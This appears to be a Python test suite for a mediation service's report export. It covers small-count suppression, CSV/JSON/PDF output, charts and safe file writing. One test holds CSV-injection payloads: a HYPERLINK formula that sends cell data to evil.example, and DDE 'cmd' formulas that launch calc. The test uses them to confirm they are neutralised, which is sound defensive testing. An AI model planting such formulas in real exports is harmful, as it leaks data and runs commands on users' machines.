"""Exported service reports: the small-count rules in every format, the CSV, JSON and PDF
shapes, writing whole or not at all, and charts that reveal nothing the tables hide."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import errno
import io
import json
import os
import re
from pathlib import Path

import pytest
from pypdf import PdfReader
from reportlab.graphics.shapes import Drawing, Rect, String
from reportlab.graphics.widgetbase import Widget

from mediator_desk.domain.case import CaseKind
from mediator_desk.domain.reporting import (
    AuthorityRow,
    Figure,
    Month,
    ReportFilter,
    Section,
    ServiceReport,
)
from mediator_desk.reports import pdf_report
from mediator_desk.reports.export import FORMATS, ReportNotWritten, render_report, write_report
from mediator_desk.reports.shown import SUPPRESSION_NOTE, shown_report

AS_OF = dt.date(2026, 11, 23)
SERVICE = "Fernleigh Family Mediation"
NOTE = (
    "So that no child or family can be identified, counts from 1 to 4 are shown as <5, and "
    "where a total would let one be worked out, a larger count is hidden too, shown as [c]."
)


def counted(key: str, title: str, parts: list[tuple[str, int]], label: str, **kw) -> Section:
    total = sum(n for _, n in parts) if kw.get("parts_add_up", True) else kw.pop("total")
    figures = tuple(Figure(name, n, total) for name, n in parts)
    return Section(key, title, figures, f"What {title.lower()} counts.", total, label, **kw)


def hand_built(kind: CaseKind | None = None) -> ServiceReport:
    """A report with known small counts (fictional local authorities)."""
    sections = (
        counted("enquiries", "Enquiries",
                [("Mediation", 38), ("Disagreement resolution", 3)], "All enquiries"),
        counted("decisions", "Decisions in dispute",
                [("Not to assess", 30), ("Not to reassess", 0), ("Contents of a plan", 8),
                 ("Not recorded", 3)], "Cases opened"),
        counted("certificates", "Certificates issued",
                [("Mediation not pursued", 7), ("Mediation concluded", 0)], "All certificates"),
        counted("meetings", "Meetings held",
                [("Within 30 days", 16), ("More than 30 days after", 1),
                 ("Cannot tell", 0), ("Disagreement resolution", 3)], "All meetings held"),
        counted("case_outcomes", "Outcomes by case",
                [("All issues agreed", 12), ("Some issues agreed", 5), ("No issue agreed", 3),
                 ("Not recorded", 0)], "Meetings held"),
        Section("time_to_meeting", "Time to the meeting (median days)",
                (Figure("From enquiry to meeting", 3, value=17.5),
                 Figure("From the LA being informed to meeting", 9, value=24.5)),
                "Calendar days.", measure=True, parts_add_up=False),
        counted("view_methods", "How the views were gathered",
                [("Conversation", 3), ("Video", 6)], "Cases with views recorded",
                parts_add_up=False, total=7),
    )  # fmt: skip
    months = (
        Month(dt.date(2026, 1, 1), 30, 0),
        Month(dt.date(2026, 2, 1), 8, 15),
        Month(dt.date(2026, 3, 1), 3, 5),
    )
    authorities = (
        AuthorityRow("Ashcombe Council", 3, 0, 0, 0),
        AuthorityRow("Fernleigh County Council", 33, 20, 7, 12),
        AuthorityRow("Harrowmere Borough Council", 5, 0, 0, 0),
    )
    chosen = ReportFilter(dt.date(2026, 1, 1), dt.date(2026, 3, 31), kind=kind)
    return ServiceReport(chosen, AS_OF, sections, months, authorities, 41,
                         tuple(a.local_authority for a in authorities))  # fmt: skip


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages)


# -- the rules, once ------------------------------------------------------------------------
def test_small_counts_are_hidden_and_one_more_where_a_total_gives_them_away():
    shown = shown_report(hand_built())
    enquiries = shown.section("enquiries")
    assert [f.count for f in enquiries.figures] == ["[c]", "<5"]  # 3, and 38 by subtraction
    assert enquiries.total == "41"
    decisions = shown.section("decisions")
    assert [f.count for f in decisions.figures] == ["30", "0", "[c]", "<5"]
    assert [f.share for f in decisions.figures][:2] == [30 / 41, 0.0]
    assert [f.share for f in decisions.figures][2:] == [None, None]
    meetings = shown.section("meetings")  # two small ones already hide each other
    assert [f.count for f in meetings.figures] == ["16", "<5", "0", "<5"]
    methods = shown.section("view_methods")  # parts that need not add up: no second count
    assert [f.count for f in methods.figures] == ["<5", "6"]
    assert methods.figures[1].share == 6 / 7


def test_a_median_over_fewer_than_5_cases_is_hidden():
    measure = shown_report(hand_built()).section("time_to_meeting")
    first, second = measure.figures
    assert (first.count, first.value) == ("<5", None)
    assert (second.count, second.value) == ("9", 24.5)


def test_month_and_authority_columns_hide_what_the_section_totals_would_reveal():
    shown = shown_report(hand_built())
    assert [m.enquiries for m in shown.months] == ["30", "[c]", "<5"]  # 3, and 8 with it
    assert [m.meetings for m in shown.months] == ["0", "15", "5"]
    assert [a.enquiries for a in shown.authorities] == ["<5", "33", "[c]"]
    assert [a.agreed_cases for a in shown.authorities] == ["0", "12", "0"]


# -- CSV ------------------------------------------------------------------------------------
def test_csv_is_one_table_with_the_period_on_every_row():
    rows = csv_rows(render_report(hand_built(), "csv", SERVICE))
    assert list(rows[0]) == [
        "period_from", "period_to", "local_authority_filter", "kind_filter", "as_of", "table",
        "section", "item", "row", "count", "share_percent", "median_days",
    ]  # fmt: skip
    assert {(r["period_from"], r["period_to"], r["as_of"]) for r in rows} == {
        ("2026-01-01", "2026-03-31", "2026-11-23")
    }
    by_item = {(r["table"], r["section"], r["item"]): r for r in rows}
    mediation = by_item[("figures", "Enquiries", "Mediation")]
    assert (mediation["count"], mediation["share_percent"]) == ("[c]", "")
    total = by_item[("figures", "Enquiries", "All enquiries")]
    assert (total["row"], total["count"]) == ("total", "41")
    assessed = by_item[("figures", "Decisions in dispute", "Not to assess")]
    assert (assessed["count"], assessed["share_percent"]) == ("30", "73.2")
    none = by_item[("figures", "Decisions in dispute", "Not to reassess")]
    assert (none["count"], none["share_percent"]) == ("0", "0")
    hidden = by_item[("figures", "Time to the meeting (median days)", "From enquiry to meeting")]
    assert (hidden["row"], hidden["count"], hidden["median_days"]) == ("median", "<5", "")
    shown = by_item[("figures", "Time to the meeting (median days)",
                     "From the LA being informed to meeting")]  # fmt: skip
    assert (shown["count"], shown["median_days"]) == ("9", "24.5")
    assert by_item[("by month", "Enquiries", "2026-01")]["count"] == "30"
    assert by_item[("by month", "Enquiries", "2026-02")]["count"] == "[c]"
    assert by_item[("by month", "Meetings held", "2026-02")]["count"] == "15"
    assert by_item[("by local authority", "Enquiries", "Ashcombe Council")]["count"] == "<5"
    note = [r for r in rows if r["table"] == "note"]
    assert len(note) == 1 and note[0]["item"].startswith(NOTE)
    assert all(r["local_authority_filter"] == "All" and r["kind_filter"] == "All" for r in rows)


def test_csv_uses_crlf_and_names_the_filter():
    data = render_report(hand_built(CaseKind.MEDIATION), "csv")
    assert data.count(b"\r\n") == len(data.splitlines())
    assert {r["kind_filter"] for r in csv_rows(data)} == {"Mediation"}


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\tTab Council",
    "\rCR Council",
)


def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised():
    """OWASP CSV injection: a user's text that starts =, +, -, @, tab or carriage return gets a
    leading single quote (and every cell is quoted); the app's own numbers are left alone."""
    report = hand_built()
    rows = tuple(AuthorityRow(name, 6, 6, 6, 6) for name in FORMULAS)
    chosen = ReportFilter(dt.date(2026, 1, 1), dt.date(2026, 3, 31), local_authority=FORMULAS[1])
    report = dataclasses.replace(report, filter=chosen, authorities=rows)
    data = render_report(report, "csv")
    parsed = csv_rows(data)
    items = {r["item"] for r in parsed if r["table"] == "by local authority"}
    assert items == {"'" + name for name in FORMULAS}
    assert {r["local_authority_filter"] for r in parsed} == {"'" + FORMULAS[1]}
    text = data.decode("utf-8-sig")
    assert all(line.startswith('"') for line in text.split("\r\n") if line)
    for row in parsed:  # nothing a spreadsheet would run is left at the start of any cell
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


# -- JSON -----------------------------------------------------------------------------------
def test_json_holds_the_whole_report_as_shown():
    data = json.loads(render_report(hand_built(), "json", SERVICE))
    assert list(data) == [
        "format", "version", "service", "period", "filter", "as_of", "suppression",
        "sections", "months", "local_authorities",
    ]  # fmt: skip
    assert data["period"] == {"from": "2026-01-01", "to": "2026-03-31"}
    assert data["filter"]["local_authority"] is None and data["filter"]["kind"] is None
    assert data["suppression"]["note"].startswith(NOTE)
    assert data["suppression"]["shown_as"] == "<5"
    assert data["suppression"]["also_hidden_as"] == "[c]"
    sections = {s["key"]: s for s in data["sections"]}
    assert sections["enquiries"]["total"] == 41
    assert [f["count"] for f in sections["decisions"]["figures"]] == [30, 0, "[c]", "<5"]
    assert sections["decisions"]["figures"][2]["share_percent"] is None
    assert sections["decisions"]["figures"][0]["share_percent"] == 73.2
    assert sections["time_to_meeting"]["figures"][0] == {
        "label": "From enquiry to meeting", "median_days": None, "cases_measured": "<5",
    }  # fmt: skip
    assert sections["time_to_meeting"]["figures"][1]["median_days"] == 24.5
    assert data["months"][1] == {"month": "2026-02", "label": "Feb 2026", "enquiries": "[c]",
                                 "meetings": 15}  # fmt: skip
    assert data["local_authorities"][1] == {
        "local_authority": "Fernleigh County Council", "enquiries": 33, "meetings": 20,
        "certificates": 7, "agreed_cases": 12,
    }  # fmt: skip


def test_json_names_the_kind_chosen():
    data = json.loads(render_report(hand_built(CaseKind.DISAGREEMENT_RESOLUTION), "json"))
    assert data["filter"]["kind"] == "disagreement_resolution"


# -- PDF ------------------------------------------------------------------------------------
def test_pdf_has_the_letterhead_period_note_and_page_numbers():
    data = render_report(hand_built(), "pdf", SERVICE)
    reader = PdfReader(io.BytesIO(data))
    text = pdf_text(data)
    flat = " ".join(text.split())
    pages = len(reader.pages)
    for number in range(1, pages + 1):
        assert f"Page {number} of {pages}" in text
    assert SERVICE in text and "Service report" in text
    assert "1 January 2026 to 31 March 2026" in text
    assert "Prepared on" in text and "Monday 23 November 2026" in text
    assert NOTE in flat
    assert "By local authority" in text and "Harrowmere Borough Council" in flat
    assert reader.metadata is not None and reader.metadata.title.startswith("Service report")


def test_pdf_shows_no_hidden_count_share_or_median():
    text = " ".join(pdf_text(render_report(hand_built(), "pdf", SERVICE)).split())
    assert "24.5" in text and "73%" in text  # what is shown...
    for hidden in ("17.5", "93%", "7%", "20%", "15%", "43%"):  # ...and what is not
        assert not re.search(rf"(?<![\d.]){re.escape(hidden)}", text), hidden
    assert not re.search(r"\b38\b", text)  # the Mediation count hidden by subtraction


def strings_and_bars(drawing: Drawing) -> tuple[list[str], list[Rect]]:
    """Every text and rectangle a drawing puts on the page, its charts drawn out."""
    texts, bars = [], []
    stack = list(drawing.contents)
    while stack:
        item = stack.pop()
        if isinstance(item, Widget):
            stack.append(item.draw())
        elif hasattr(item, "contents"):
            stack.extend(item.contents)
        elif isinstance(item, String):
            texts.append(item.text)
        elif isinstance(item, Rect):
            bars.append(item)
    return texts, bars


def test_the_month_chart_draws_no_bar_for_a_hidden_count():
    shown = shown_report(hand_built())
    chart = pdf_report._months_chart(shown, 480)
    assert isinstance(chart, Drawing)
    texts, bars = strings_and_bars(chart)
    assert texts.count("[c]") == 1  # February's enquiries, hidden to protect March's
    assert texts.count("<5") == 1  # March's enquiries
    heights = sorted(round(b.height, 3) for b in bars if b.height > 0 and b.width < 100)
    scale = chart.contents[0].height / chart.contents[0].valueAxis.valueMax
    drawn = sorted(round(n * scale, 3) for n in (30, 15, 5))
    legend = [h for h in heights if h not in drawn]
    assert all(h in heights for h in drawn)
    assert all(h < 10 for h in legend)  # only the legend's swatches besides
    assert not any(t in ("8", "3") for t in texts)


def test_the_outcomes_chart_joins_the_hidden_counts_and_names_none_of_them():
    shown = shown_report(hand_built())
    flowables = pdf_report._outcomes_chart(shown, 480)
    drawing = next(f for f in flowables if isinstance(f, Drawing))
    texts, bars = strings_and_bars(drawing)
    assert "All issues agreed: 12 (60%)" in texts
    assert pdf_report.HIDDEN_LABEL in texts
    assert not any("Some issues" in t or "No issue" in t for t in texts)
    assert "25%" in texts  # the scale under the bar, not the 5 cases of some agreed
    assert not any(t.endswith("(25%)") or t.endswith("(15%)") or t == "40%" for t in texts)
    widths = sorted(round(b.width / 480, 3) for b in bars if b.height > 20)
    assert widths == [0.4, 0.6]  # 12 of 20, then the hidden 5 and 3 together


def test_charts_give_way_to_a_sentence_when_every_count_is_small():
    report = hand_built()
    tiny = ServiceReport(
        report.filter,
        AS_OF,
        tuple(
            counted("case_outcomes", "Outcomes by case",
                    [("All issues agreed", 3), ("Not recorded", 4)], "Meetings held")
            if s.key == "case_outcomes" else s
            for s in report.sections
        ),
        (Month(dt.date(2026, 1, 1), 2, 1), Month(dt.date(2026, 2, 1), 0, 0)),
        (),
    )  # fmt: skip
    shown = shown_report(tiny)
    assert not isinstance(pdf_report._months_chart(shown, 480), Drawing)
    assert not any(isinstance(f, Drawing) for f in pdf_report._outcomes_chart(shown, 480))
    text = " ".join(pdf_text(render_report(tiny, "pdf")).split())
    assert "Too few enquiries and meetings to draw by month" in text
    assert "Too few meetings held to show their outcomes" in text


def test_every_format_carries_the_note():
    for fmt in FORMATS:
        data = render_report(hand_built(), fmt, SERVICE)
        text = pdf_text(data) if fmt == "pdf" else data.decode("utf-8-sig")
        assert NOTE in " ".join(text.split()), fmt
    assert SUPPRESSION_NOTE.startswith(NOTE)


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="csv, pdf, json"):
        render_report(hand_built(), "xlsx")


# -- writing ----------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
def test_write_report_writes_each_format(tmp_path, fmt):
    target = tmp_path / f"report.{fmt}"
    assert write_report(hand_built(), target, fmt, SERVICE) == target
    expected = render_report(hand_built(), fmt, SERVICE)
    if fmt == "pdf":  # a PDF carries the moment it was made
        assert pdf_text(target.read_bytes()) == pdf_text(expected)
    else:
        assert target.read_bytes() == expected
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_a_missing_folder_is_explained(tmp_path):
    target = tmp_path / "not here" / "report.csv"
    with pytest.raises(ReportNotWritten, match="does not exist"):
        write_report(hand_built(), target, "csv")


def test_a_folder_given_as_the_file_is_explained(tmp_path):
    with pytest.raises(ReportNotWritten, match="is a folder"):
        write_report(hand_built(), tmp_path, "csv")


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="needs file permissions")
def test_a_read_only_folder_is_explained_and_nothing_is_left(tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(ReportNotWritten, match="cannot be written to"):
            write_report(hand_built(), folder / "report.pdf", "pdf")
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o700)


def test_a_full_disk_leaves_the_old_file_whole(tmp_path, monkeypatch):
    target = tmp_path / "report.json"
    target.write_text("the earlier report", encoding="utf-8")

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("mediator_desk.documents.export.os.fsync", full)
    with pytest.raises(ReportNotWritten, match="The disk is full") as raised:
        write_report(hand_built(), target, "json")
    assert "\n" not in raised.value.message
    assert target.read_text(encoding="utf-8") == "the earlier report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.json"]


def test_an_existing_file_is_replaced_whole(tmp_path: Path):
    target = tmp_path / "report.csv"
    target.write_bytes(b"old")
    write_report(hand_built(), target, "csv")
    assert csv_rows(target.read_bytes())[0]["table"] == "figures"


def test_a_folder_that_refuses_writing_is_explained(tmp_path, monkeypatch):
    def refused(*_args: object, **_kwargs: object) -> None:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr("mediator_desk.documents.export.tempfile.mkstemp", refused)
    with pytest.raises(ReportNotWritten, match="may be read-only"):
        write_report(hand_built(), tmp_path / "report.csv", "csv")
    assert list(tmp_path.iterdir()) == []


def test_the_pdf_carries_the_services_letterhead_and_logo_on_every_page():
    from PIL import Image

    from mediator_desk.documents.model import Letterhead

    buffer = io.BytesIO()
    Image.new("RGB", (120, 60), (20, 110, 110)).save(buffer, "PNG")
    head = Letterhead(SERVICE, "2 Fictional Row, Fernleigh FL1 2AB", logo=buffer.getvalue())
    data = render_report(hand_built(), "pdf", head)
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) > 1
    assert all(len(page.images) == 1 for page in reader.pages)
    assert "2 Fictional Row" in pdf_text(data)
    # Just the name, as before, gives a letterhead without a picture.
    plain = PdfReader(io.BytesIO(render_report(hand_built(), "pdf", SERVICE)))
    assert all(not page.images for page in plain.pages)
    assert json.loads(render_report(hand_built(), "json", head))["service"] == SERVICE
